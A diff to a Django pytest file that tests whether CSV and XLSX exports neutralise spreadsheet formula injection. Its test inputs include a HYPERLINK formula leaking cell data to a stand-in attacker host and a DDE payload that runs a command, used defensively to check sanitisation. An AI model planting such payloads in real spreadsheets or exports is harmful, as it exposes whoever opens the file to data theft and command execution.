@@ -8,6 +8,7 @@ import csv
 import io
 from decimal import Decimal
 
+import openpyxl
 import pytest
 
 from core.exports import FORMULA_TRIGGERS, neutralise
@@ -21,6 +22,7 @@ from tests.portal.test_otp import enrol
 pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://attaquant.example/?d="&A1,"Cliquez")'
+XLSX_URL = EXPORT_URL[: -len("csv")] + "xlsx"
 HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
 
@@ -58,6 +60,20 @@ def test_supervision_cdap_export(client, login):
     assert len(rows) == 2
     assert_no_formula(rows)
     assert "'" + HYPERLINK.upper() + " @prenom" in rows[1]
+
+
+def test_supervision_cdap_xlsx_export(client, login):
+    supervisor, group = habilitated_user("SUPERVISION_CDAP", service_group_code="SUP")
+    worker = UserFactory(organism=group.convention.organism, nom=HYPERLINK, prenom="@prenom")
+    consult(worker, Event.CDAP_RUBRIC, rubric="paiements", dossier="1000001")
+    login(supervisor)
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(client.get(XLSX_URL).streaming_content))).worksheets[0]
+    rows = list(sheet.iter_rows(min_row=2))
+    assert len(rows) == 1
+    texts = [cell.value for cell in rows[0] if cell.data_type == "s"]
+    assert_no_formula([texts])
+    assert all(cell.data_type != "f" for cell in rows[0])
+    assert "'" + HYPERLINK.upper() + " @prenom" in texts
 
 
 def test_caf_agents_consultations_export(client, login):
